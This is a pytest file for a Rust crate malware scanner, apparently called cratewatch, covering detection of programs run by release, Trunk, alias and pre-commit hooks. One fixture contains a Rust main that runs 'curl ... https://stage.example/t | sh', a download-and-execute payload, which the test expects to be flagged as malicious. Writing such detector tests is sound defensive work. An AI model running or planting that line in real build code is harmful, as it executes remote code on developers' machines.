"""The crate's own programs that developer tools run from their hooks (scan/hooks.py)."""

from __future__ import annotations

from pathlib import Path

from cratewatch.model.scan import Verdict
from cratewatch.scan.crate import scan_path
from cratewatch.scan.hooks import hook_programs

XTASK = {
    "xtask/Cargo.toml": b'[package]\nname = "xtask"\nversion = "0.1.0"\n',
    "xtask/src/main.rs": b"fn main() {}\n",
}
GEN = {
    "tools/Cargo.toml": b'[package]\nname = "tools"\nversion = "0.1.0"\n',
    "tools/src/main.rs": b"fn main() {}\n",
    "tools/src/bin/gen.rs": b"fn main() {}\n",
}


def test_a_cargo_release_hook_given_as_a_list() -> None:
    manifest = (
        b'[package]\nname = "f"\nversion = "1.0.0"\n[package.metadata.release]\n'
        b'pre-release-hook = ["cargo", "run", "--quiet", "--package", "xtask", "--", "tables"]\n'
    )
    assert hook_programs({"Cargo.toml": manifest, **XTASK}) == ("xtask/src/main.rs",)


def test_a_trunk_hook_with_its_arguments_on_their_own_line() -> None:
    trunk = (
        b'[[hooks]]\nstage = "pre_build"\ncommand = "cargo"\n'
        b'command_arguments = ["run", "-p", "xtask", "--", "css"]\n'
    )
    assert hook_programs({"Trunk.toml": trunk, **XTASK}) == ("xtask/src/main.rs",)


def test_an_alias_and_a_binary_named_by_bin() -> None:
    config = b'[alias]\ngen = "run --bin gen --"\n'
    book = b'[preprocessor.links]\ncommand = "cargo gen links"\n'
    files = {".cargo/config.toml": config, "docs/book.toml": book, **GEN}
    assert hook_programs(files) == ("tools/src/bin/gen.rs",)


def test_cargo_xtask_without_an_alias_is_the_xtask_package() -> None:
    hooks = b"repos:\n- repo: local\n  hooks:\n  - id: lint\n    entry: cargo xtask lint\n"
    assert hook_programs({".pre-commit-config.yaml": hooks, **XTASK}) == ("xtask/src/main.rs",)


def test_no_hook_runs_nothing() -> None:
    manifest = b'[package]\nname = "f"\nversion = "1"\n[package.metadata.release]\ntag = false\n'
    assert hook_programs({"Cargo.toml": manifest, **XTASK}) == ()
    assert hook_programs({"Cargo.toml": b"not [ toml", "release.toml": b"x = ["}) == ()


def test_a_program_a_hook_runs_is_build_code(tmp_path: Path) -> None:
    # the same download and run is one tactic in a program someone must start, and code
    # run unasked on the releasing maintainer's machine when a hook starts it
    payload = (
        b'fn main() {\n    let _ = std::process::Command::new("sh").arg("-c")\n'
        b'        .arg("curl -fsS https://stage.example/t | sh").status();\n}\n'
    )
    manifest = b'[package]\nname = "f"\nversion = "1.0.0"\n[workspace]\nmembers = ["xtask"]\n'
    hook = b'[package.metadata.release]\npre-release-hook = ["cargo", "xtask", "gen"]\n'
    files = {**XTASK, "xtask/src/main.rs": payload, "src/lib.rs": b"pub fn f() {}\n"}
    for name, text in {**files, "Cargo.toml": manifest}.items():
        (tmp_path / "plain" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "plain" / name).write_bytes(text)
        (tmp_path / "hooked" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "hooked" / name).write_bytes(text + hook if name == "Cargo.toml" else text)
    assert scan_path(tmp_path / "plain").verdict is not Verdict.MALICIOUS
    hooked = scan_path(tmp_path / "hooked")
    assert hooked.verdict is Verdict.MALICIOUS
    assert {e.context.value for e in hooked.findings if e.file == "xtask/src/main.rs"} == {"build"}


def test_hostile_manifests_are_refused_not_raised() -> None:
    deep = b'[package]\nname = "x"\nversion = "1"\nv = ' + b"[" * 20_000 + b"]" * 20_000
    hook = b'[package.metadata.release]\npre-release-hook = ["cargo", "xtask"]\n'
    files = {"Cargo.toml": deep + b"\n" + hook, "xtask/Cargo.toml": deep, **XTASK}
    files["tools/Cargo.toml"] = b"\xff\xfe not utf-8"
    assert hook_programs(files) == ()
    assert hook_programs({**files, "Cargo.toml": hook}) == ("xtask/src/main.rs",)
